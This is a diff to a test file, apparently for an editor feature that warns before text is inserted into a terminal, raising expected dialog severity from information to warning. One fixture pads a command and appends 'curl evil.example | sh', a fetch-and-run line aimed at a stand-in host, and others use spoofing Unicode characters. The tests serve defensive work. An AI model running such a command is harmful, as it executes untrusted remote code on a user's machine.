@@ -63,7 +63,7 @@ test("without shell integration, a terminal in which somebody typed may be waiti
 test("a command that no dialog would show whole is read in an editor", async () => {
   await terminal.insert(`echo ${"a".repeat(2000)}; curl evil.example | sh`);
   expect([sent(), fake.opened.length]).toEqual([[], 1]);
-  expect(fake.dialogs).toMatchObject([{ severity: "information", buttons: [] }]);
+  expect(fake.dialogs).toMatchObject([{ severity: "warning", buttons: [] }]);
 });
 
 test.each(["\u3000", "\u2003", "\u2800", "\u00a0", "\u3164"])("a blank that a shell takes for a letter is shown: %j", async (blank) => {
@@ -91,7 +91,7 @@ test("hidden characters are shown, and nothing is inserted; several lines are sh
   expect(fake.dialogs).toMatchObject([{ severity: "error", modal: true, detail: "ls\\u{202e}" }]);
   await terminal.insert("a\nb");
   expect(fake.opened).toHaveLength(1);
-  expect(fake.dialogs.at(-1)).toMatchObject({ severity: "information", buttons: [] });
+  expect(fake.dialogs.at(-1)).toMatchObject({ severity: "warning", buttons: [] });
   workspace.isTrusted = false;
   await terminal.insert("ls");
   expect(fake.dialogs.at(-1)?.severity).toBe("warning");
